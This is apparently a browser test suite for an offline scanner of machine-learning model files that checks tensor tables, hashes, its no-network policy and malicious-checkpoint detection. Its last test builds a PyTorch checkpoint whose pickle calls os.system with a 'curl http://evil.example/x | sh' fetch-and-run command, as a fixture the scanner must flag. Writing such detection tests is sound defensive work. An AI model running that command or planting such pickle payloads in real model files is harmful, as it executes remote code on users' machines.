/**
 * The built app in headless Chromium: files go in through the file input, and
 * the page must show what the core found, compute the same SHA-256 as Node,
 * stay fast on huge tensor tables, and never talk to anything but its own
 * origin (no request elsewhere, no Content-Security-Policy violation).
 */
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, open, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FileChooser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  buildSafetensors,
  buildSafetensorsRaw,
  padSafetensorsHeader,
  safetensorsHeaderText,
} from '../builders/safetensors.ts';
import { payload } from '../builders/pickle.ts';
import { stateDict, torchZip } from '../builders/torch.ts';
import {
  DIST_DIR,
  assertDistBuilt,
  contentSecurityPolicyOf,
  launchChromium,
  serveDist,
  watchPage,
  type LaunchedChromium,
  type PageWatch,
  type StaticServer,
} from './harness.ts';

/** A file handed to the page's file input. */
interface InputFile {
  name: string;
  mimeType: string;
  buffer: Buffer;
}

function inputFile(name: string, bytes: Uint8Array): InputFile {
  return { name, mimeType: 'application/octet-stream', buffer: Buffer.from(bytes) };
}

function sha256Hex(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex');
}

const SMALL_MODEL = buildSafetensors(
  [
    { name: 'model.embed_tokens.weight', dtype: 'BF16', shape: [16, 8] },
    { name: 'model.layers.0.mlp.up_proj.weight', dtype: 'F32', shape: [8, 4] },
    { name: 'lm_head.bias', dtype: 'F16', shape: [16] },
  ],
  { format: 'pt', note: 'made by the browser test' },
);

/** Two tensors whose data ranges overlap: [0, 8) and [4, 12). */
const OVERLAPPING_MODEL = buildSafetensorsRaw(
  padSafetensorsHeader(
    safetensorsHeaderText([
      ['first', { dtype: 'F32', shape: [2], data_offsets: [0, 8] }],
      ['second', { dtype: 'F32', shape: [2], data_offsets: [4, 12] }],
    ]),
  ),
  new Uint8Array(12).fill(0x41),
);

/** Bytes that start like no known format. */
const RANDOM_BINARY = Uint8Array.from({ length: 4096 }, (_, index) => (index * 7919 + 13) % 251);

const HUGE_TENSOR_COUNT = 20_000;
const HUGE_MODEL = buildSafetensors(
  Array.from({ length: HUGE_TENSOR_COUNT }, (_, index) => ({ name: `model.layers.${index}.weight`, dtype: 'F16', shape: [1] })),
);

/** Over 2 GiB, so sizes and offsets past 32 bits go through the page too. */
const SPARSE_MODEL_BYTES = 3_000_000_000;

/**
 * A valid safetensors file of `size` bytes: one U8 tensor over everything after
 * the header, left as a hole, so the file is sparse on disk and instant to make.
 * Returns the tensor's byte length.
 */
async function writeSparseSafetensors(path: string, size: number): Promise<number> {
  let header = '';
  let dataLength = size - 8;
  // The header's own length depends on the digits of dataLength; two rounds settle it.
  for (let round = 0; round < 3; round++) {
    header = padSafetensorsHeader(safetensorsHeaderText([['weights', { dtype: 'U8', shape: [dataLength], data_offsets: [0, dataLength] }]]));
    dataLength = size - 8 - Buffer.byteLength(header);
  }
  const handle = await open(path, 'w');
  try {
    await handle.write(buildSafetensorsRaw(header));
    await handle.truncate(size);
  } finally {
    await handle.close();
  }
  return dataLength;
}

let server: StaticServer;
let chromium: LaunchedChromium;
let page: Page;
let watch: PageWatch;
let scratch: string;

beforeAll(async () => {
  assertDistBuilt();
  scratch = await mkdtemp(join(tmpdir(), 'preflight-app-test-'));
  server = await serveDist();
  chromium = await launchChromium();
});

afterAll(async () => {
  await chromium?.close();
  await server?.close();
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

async function openApp(): Promise<void> {
  page = await chromium.context.newPage();
  watch = await watchPage(page);
  await page.goto(server.url);
  await page.getByTestId('drop-zone').waitFor();
}

afterEach(async () => {
  await watch?.stop();
  await page?.close();
});

/** Nothing left the page's origin and the policy was never violated, in the document or a worker. */
function expectNoNetworkAndNoViolations(): void {
  expect(watch.requestsOutside(server.origin)).toEqual([]);
  expect(watch.cspViolations).toEqual([]);
  expect(watch.errors).toEqual([]);
}

async function scanFiles(files: InputFile[]): Promise<void> {
  await page.getByTestId('file-input').setInputFiles(files);
}

function card(path: string) {
  return page.locator(`[data-testid="file-card"][data-path="${path}"]`);
}

async function waitUntilDone(path: string) {
  const located = card(path);
  await located.and(page.locator('[data-status="done"]')).waitFor({ timeout: 60_000 });
  return located;
}

describe('the built page', () => {
  it('declares a policy that forbids network access', async () => {
    const policy = contentSecurityPolicyOf(await readFile(join(DIST_DIR, 'index.html'), 'utf8'));
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("connect-src 'none'");
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(policy).not.toContain('unsafe-inline');
    // Served as a header too: a meta tag binds only the document, a worker takes its own response's policy.
    const response = await fetch(server.url);
    expect(response.headers.get('content-security-policy')).toBe(policy);
  });

  it('refuses HTML sinks at runtime (Trusted Types), so untrusted text can never become markup', async () => {
    await openApp();
    const outcome = await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x>');
        return 'inserted';
      } catch (error) {
        return (error as Error).name;
      }
    });
    expect(outcome).toBe('TypeError');
    await expect.poll(() => watch.cspViolations.some((text) => text.includes('TrustedHTML'))).toBe(true);
  });
});

describe('scanning in Chromium', () => {
  it('shows tensors, metadata, the clean verdict and the same SHA-256 as node:crypto', async () => {
    await openApp();
    await scanFiles([inputFile('model.safetensors', SMALL_MODEL)]);
    const file = await waitUntilDone('model.safetensors');

    await expect(file.getByTestId('verdict').getAttribute('data-verdict')).resolves.toBe('clean');
    await expect(file.getByTestId('verdict').getAttribute('data-final')).resolves.toBe('true');
    await expect(file.getByTestId('file-format').textContent()).resolves.toBe('safetensors');
    await expect(file.getByTestId('sha256').textContent()).resolves.toBe(sha256Hex(SMALL_MODEL));

    const rows = file.getByTestId('tensor-row');
    await expect(rows.count()).resolves.toBe(3);
    await expect(rows.getByTestId('tensor-name').allTextContents()).resolves.toEqual([
      'model.embed_tokens.weight',
      'model.layers.0.mlp.up_proj.weight',
      'lm_head.bias',
    ]);
    await expect(rows.getByTestId('tensor-dtype').allTextContents()).resolves.toEqual(['BF16', 'F32', 'F16']);
    await expect(rows.getByTestId('tensor-shape').allTextContents()).resolves.toEqual(['[16, 8]', '[8, 4]', '[16]']);

    await expect(file.getByTestId('total-tensors').textContent()).resolves.toBe('3');
    await expect(file.getByTestId('total-parameters').textContent()).resolves.toBe('176');
    const metadata = await file.getByTestId('metadata-row').allInnerTexts();
    expect(metadata.map((row) => row.replace(/\s+/g, ' ').trim())).toEqual(['format pt', 'note made by the browser test']);
    await expect(file.getByTestId('no-findings').count()).resolves.toBe(1);

    expectNoNetworkAndNoViolations();
  });

  it('reports overlapping tensor offsets as malformed, with the finding and its offset', async () => {
    await openApp();
    await scanFiles([inputFile('overlap.safetensors', OVERLAPPING_MODEL)]);
    const file = await waitUntilDone('overlap.safetensors');

    await expect(file.getByTestId('verdict').getAttribute('data-verdict')).resolves.toBe('malformed');
    const finding = file.locator('[data-testid="finding"][data-rule="safetensors.offsets.overlap"]');
    await expect(finding.count()).resolves.toBeGreaterThan(0);
    await expect(finding.first().getByTestId('finding-location').textContent()).resolves.toMatch(/^offset 0x[0-9A-F]+ \(\d[\d,]*\)/);
    await expect(file.getByTestId('sha256').textContent()).resolves.toBe(sha256Hex(OVERLAPPING_MODEL));

    expectNoNetworkAndNoViolations();
  });

  it('says when it does not recognise a file, and still hashes it', async () => {
    await openApp();
    await scanFiles([inputFile('blob.bin', RANDOM_BINARY)]);
    const file = await waitUntilDone('blob.bin');

    await expect(file.locator('[data-testid="finding"][data-rule="format.unsupported"]').count()).resolves.toBe(1);
    await expect(file.getByTestId('file-format').textContent()).resolves.toBe('unrecognised format');
    await expect(file.getByTestId('verdict').getAttribute('data-verdict')).resolves.toMatch(/^(clean|suspicious)$/);
    await expect(file.getByTestId('sha256').textContent()).resolves.toBe(sha256Hex(RANDOM_BINARY));

    expectNoNetworkAndNoViolations();
  });

  it(`keeps a ${HUGE_TENSOR_COUNT}-tensor table to a bounded number of DOM rows, and filters it`, async () => {
    await openApp();
    await scanFiles([inputFile('huge.safetensors', HUGE_MODEL)]);
    const file = await waitUntilDone('huge.safetensors');
    const rows = file.getByTestId('tensor-row');

    await expect(file.getByTestId('tensor-match-count').textContent()).resolves.toBe('20,000 tensors');
    const rendered = await rows.count();
    expect(rendered).toBeGreaterThan(5);
    expect(rendered).toBeLessThan(100);
    await expect(rows.first().getByTestId('tensor-name').textContent()).resolves.toBe('model.layers.0.weight');

    // Scrolled to the end, the last tensor is rendered and the row count stays bounded.
    await file.getByRole('table', { name: 'Tensors' }).evaluate((viewport) => {
      viewport.scrollTop = viewport.scrollHeight;
      viewport.dispatchEvent(new Event('scroll'));
    });
    await file.locator('[data-testid="tensor-name"]', { hasText: /^model\.layers\.19999\.weight$/ }).waitFor();
    expect(await rows.count()).toBeLessThan(100);

    // `layers.1999.` matches exactly one name; `layers.1999` matches 1999 and 19990-19999.
    await file.getByTestId('tensor-filter').fill('layers.1999');
    await expect(file.getByTestId('tensor-match-count').textContent()).resolves.toBe('11 of 20,000 tensors');
    await expect(rows.count()).resolves.toBe(11);
    await file.getByTestId('tensor-filter').fill('layers.1999.');
    await expect(rows.getByTestId('tensor-name').allTextContents()).resolves.toEqual(['model.layers.1999.weight']);

    expectNoNetworkAndNoViolations();
  });

  it('gives each of several files its own card, and downloads one report for all of them', async () => {
    await openApp();
    const files = [
      inputFile('a.safetensors', SMALL_MODEL),
      inputFile('b-overlap.safetensors', OVERLAPPING_MODEL),
      inputFile('c.bin', RANDOM_BINARY),
    ];
    await scanFiles(files);
    for (const { name } of files) await waitUntilDone(name);
    await expect(page.getByTestId('file-card').count()).resolves.toBe(3);
    await expect(card('a.safetensors').getByTestId('verdict').getAttribute('data-verdict')).resolves.toBe('clean');
    await expect(card('b-overlap.safetensors').getByTestId('verdict').getAttribute('data-verdict')).resolves.toBe('malformed');

    const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download-report').click()]);
    expect(download.suggestedFilename()).toMatch(/^preflight-report-.+\.json$/);
    const report = JSON.parse(await readFile(await download.path(), 'utf8'));
    expect(report.schemaVersion).toBe(1);
    expect(report.files.map((entry: { path: string }) => entry.path)).toEqual(['a.safetensors', 'b-overlap.safetensors', 'c.bin']);
    expect(report.files.map((entry: { sha256: string }) => entry.sha256)).toEqual(files.map(({ buffer }) => sha256Hex(buffer)));
    expect(report.files[0].tensors).toHaveLength(3);

    expectNoNetworkAndNoViolations();
  });

  it('copies the SHA-256, or selects it when the clipboard is refused', async () => {
    await openApp();
    await scanFiles([inputFile('model.safetensors', SMALL_MODEL)]);
    const file = await waitUntilDone('model.safetensors');
    await file.getByTestId('copy-sha256').click();
    const feedback = file.locator('.hash__feedback');
    await feedback.filter({ hasText: /Copied|Selected/ }).waitFor();
    if ((await feedback.textContent())?.startsWith('Selected')) {
      await expect(page.evaluate(() => window.getSelection()?.toString())).resolves.toBe(sha256Hex(SMALL_MODEL));
    }

    expectNoNetworkAndNoViolations();
  });

  it('shows progress on a large file, and Cancel stops the pass and leaves no hash', async () => {
    const path = join(scratch, 'large.safetensors');
    const tensorBytes = await writeSparseSafetensors(path, SPARSE_MODEL_BYTES);
    await openApp();
    await page.getByTestId('file-input').setInputFiles(path);
    const file = card('large.safetensors');

    await file.getByTestId('scan-progress').waitFor();
    await expect(file.getByTestId('progress-bytes').textContent()).resolves.toMatch(/ of 3 GB \(\d+%\)$/);
    await expect(file.getByTestId('tensor-shape').textContent()).resolves.toBe(`[${tensorBytes}]`);
    await file.getByTestId('cancel-scan').click();
    await file.and(page.locator('[data-status="cancelled"]')).waitFor();
    await expect(file.getByTestId('sha256').count()).resolves.toBe(0);
    await expect(file.getByTestId('verdict').getAttribute('data-final')).resolves.toBe('false');

    const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download-report').click()]);
    const report = JSON.parse(await readFile(await download.path(), 'utf8'));
    expect(report.files).toHaveLength(1);
    expect(report.files[0].sha256).toBeNull();
    expect(report.files[0].size).toBe(SPARSE_MODEL_BYTES);
    expect(report.files[0].findings.map((finding: { rule: string }) => finding.rule)).toContain('scan.cancelled');

    expectNoNetworkAndNoViolations();
  });

  it('opens the file picker from the keyboard, with a visible focus ring', async () => {
    await openApp();
    const button = page.getByTestId('choose-files');
    await page.keyboard.press('Tab');
    await expect(button.evaluate((element) => element === document.activeElement)).resolves.toBe(true);
    await expect(button.evaluate((element) => getComputedStyle(element).outlineStyle)).resolves.toBe('solid');

    // Listen before any key press, and let one round trip pass so the browser intercepts choosers
    // before the first one opens (a listener added in the same breath as the press can miss it).
    const choosers: FileChooser[] = [];
    page.on('filechooser', (chooser) => choosers.push(chooser));
    await page.evaluate(() => undefined);
    for (const key of ['Enter', 'Space']) {
      const before = choosers.length;
      await button.focus();
      await page.keyboard.press(key);
      await expect.poll(() => choosers.length, { timeout: 15_000 }).toBe(before + 1);
      const chooser = choosers[before];
      expect(chooser.isMultiple()).toBe(true);
      // Answer every chooser: one left open can keep the next from opening.
      await chooser.setFiles(key === 'Space' ? [inputFile('picked.safetensors', SMALL_MODEL)] : []);
    }
    await waitUntilDone('picked.safetensors');

    expectNoNetworkAndNoViolations();
  });

  it('shows a model-level summary for a picked model folder', async () => {
    const folder = join(scratch, 'mixed-model');
    await mkdir(folder, { recursive: true });
    await writeFile(join(folder, 'config.json'), '{"architectures": ["LlamaForCausalLM"], "model_type": "llama"}');
    await writeFile(join(folder, 'model.safetensors'), SMALL_MODEL);
    await writeFile(join(folder, 'pytorch_model.bin'), torchZip().bytes());
    await openApp();
    await page.getByTestId('folder-input').setInputFiles(folder);

    for (const name of ['config.json', 'model.safetensors', 'pytorch_model.bin']) await waitUntilDone(`mixed-model/${name}`);
    const model = page.locator('[data-testid="model-summary"][data-root="mixed-model"]');
    await model.waitFor();
    await expect(model.getByTestId('model-loader-reads').textContent()).resolves.toContain('mixed-model/model.safetensors');
    await expect(model.locator('[data-testid="finding"][data-rule="hf.weights.pickle-fallback"]').count()).resolves.toBe(1);

    const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('download-report').click()]);
    const report = JSON.parse(await readFile((await download.path())!, 'utf8'));
    expect(report.models.find((entry: { root: string }) => entry.root === 'mixed-model').files).toHaveLength(3);

    expectNoNetworkAndNoViolations();
  });

  it('scans files dropped on the page', async () => {
    await openApp();
    const dataTransfer = await page.evaluateHandle((bytes) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([new Uint8Array(bytes)], 'dropped.safetensors'));
      return transfer;
    }, Array.from(SMALL_MODEL));
    const zone = page.getByTestId('drop-zone');
    await zone.dispatchEvent('dragover', { dataTransfer });
    await expect(zone.getAttribute('class')).resolves.toContain('drop-zone--active');
    await zone.dispatchEvent('drop', { dataTransfer });

    const file = await waitUntilDone('dropped.safetensors');
    await expect(file.getByTestId('sha256').textContent()).resolves.toBe(sha256Hex(SMALL_MODEL));

    expectNoNetworkAndNoViolations();
  });

  it('scans every file of a picked folder under its path in the folder', async () => {
    const folder = join(scratch, 'tiny-llama');
    await mkdir(folder, { recursive: true });
    await writeFile(join(folder, 'model.safetensors'), SMALL_MODEL);
    await writeFile(join(folder, 'config.json'), '{"architectures": ["LlamaForCausalLM"]}');
    await openApp();
    await page.getByTestId('folder-input').setInputFiles(folder);

    await waitUntilDone('tiny-llama/model.safetensors');
    await waitUntilDone('tiny-llama/config.json');
    await expect(page.getByTestId('file-card').count()).resolves.toBe(2);

    expectNoNetworkAndNoViolations();
  });
});

describe('a malicious PyTorch checkpoint', () => {
  it('shows the dangerous verdict, the call with its argument and offset, and the weights_only refusal', async () => {
    await openApp();
    const command = 'curl http://evil.example/x | sh';
    const bytes = torchZip({ dataPkl: stateDict([], [...payloadParts(command)]) }).bytes();
    await scanFiles([inputFile('evil.pt', bytes)]);
    const file = await waitUntilDone('evil.pt');
    await expect(file.getByTestId('verdict').getAttribute('data-verdict')).resolves.toBe('dangerous');
    const call = file.locator('[data-testid="finding"][data-rule="pickle.call.dangerous"]').first();
    await expect(call.getByTestId('finding-evidence').textContent()).resolves.toContain(`os.system("${command}")`);
    await expect(call.getByTestId('finding-location').textContent()).resolves.toMatch(/offset 0x[0-9A-F]+ \(\d+\)/);
    await expect(file.getByTestId('weights-only').getAttribute('data-accepted')).resolves.toBe('false');
    await expect(file.getByTestId('weights-only').textContent()).resolves.toContain('os.system');
    await expect(file.getByTestId('sha256').textContent()).resolves.toContain(sha256Hex(bytes));
    expectNoNetworkAndNoViolations();
  });
});

/** The body of `payload('os', 'system', command)` without its PROTO and STOP, to run inside a state dict. */
function payloadParts(command: string): Uint8Array[] {
  const whole = payload('os', 'system', command);
  return [whole.subarray(2, whole.length - 1), Uint8Array.of(0x30)]; // then POP: the result is discarded
}
